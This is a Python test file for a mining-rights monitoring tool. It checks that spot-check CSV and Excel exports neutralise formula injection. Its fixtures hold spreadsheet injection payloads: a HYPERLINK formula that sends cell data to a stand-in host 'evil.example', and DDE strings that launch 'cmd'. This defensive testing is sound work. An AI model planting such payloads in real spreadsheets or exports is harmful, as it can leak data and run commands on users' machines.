"""Spot-check files: a holder or mine name that is a formula is shown, never run (OWASP CSV injection)."""
from __future__ import annotations

import csv
from datetime import date

from openpyxl import load_workbook
from shapely.geometry import box

from minewatch.outputs.spotcheck import KEYS, spot_check_list, write_spot_check
from minewatch.promised.models import MiningRight

HOLDER = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
MINE = "@SUM(1+1)*cmd|' /C calc'!A0"
LICENCE = "-2+3+cmd|' /C calc'!A0"


def _spot(tmp_path):
    rights = [MiningRight(LICENCE, HOLDER, MINE, date(2020, 1, 1), date(2030, 1, 1), "140100",
                          box(111, 39, 111.01, 39.01), abnormal_list=True),
              MiningRight("C1400002020011110000002", "\t=1+1", "+1", date(2020, 1, 1), date(2030, 1, 1),
                          "140100", box(111.1, 39, 111.11, 39.01))]
    fc = {"type": "FeatureCollection", "features": [{"type": "Feature", "id": "a", "geometry": None, "properties": {
        "id": "a", "license_no": LICENCE, "mine_name": MINE, "type": "=cmd", "type_zh": "=修复不达标",
        "severity": "high", "area_hm2": 1.5}}]}
    df = spot_check_list(fc, rights)
    return df, write_spot_check(df, tmp_path / "s.csv", tmp_path / "s.xlsx")


def test_xlsx_has_no_formula_and_shows_the_text(tmp_path):
    _, (_, xlsx) = _spot(tmp_path)
    ws = load_workbook(xlsx)["抽查清单"]               # formulas would load as data_type "f"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    rows = [dict(zip(KEYS, (c.value for c in row))) for row in ws.iter_rows(min_row=2)]
    first = rows[0]
    assert (first["license_no"], first["holder"], first["mine_name"]) == ("'" + LICENCE, "'" + HOLDER, "'" + MINE)
    assert (first["types"], first["types_zh"]) == ("'=cmd", "'=修复不达标")
    assert (rows[1]["holder"], rows[1]["mine_name"]) == ("'\t=1+1", "+1")   # "+1" is just a number's text
    # numbers stay numbers: (1 + 1) x (1 + 3 x (1.5 + 1)) = 17
    assert (first["risk_score"], first["multiplier"], first["area_hm2"], first["n_high"]) == (17.0, 2.0, 1.5, 1)
    assert ws.cell(2, KEYS.index("risk_score") + 1).data_type == "n"


def test_csv_cells_start_with_a_quote(tmp_path):
    _, (path, _) = _spot(tmp_path)
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    first = dict(zip(KEYS, rows[1]))
    assert (first["license_no"], first["holder"], first["mine_name"]) == ("'" + LICENCE, "'" + HOLDER, "'" + MINE)
    assert (first["risk_score"], first["area_hm2"]) == ("17.0", "1.5")
    assert not any(cell.startswith(("=", "@", "\t", "\r", "-")) for row in rows for cell in row)
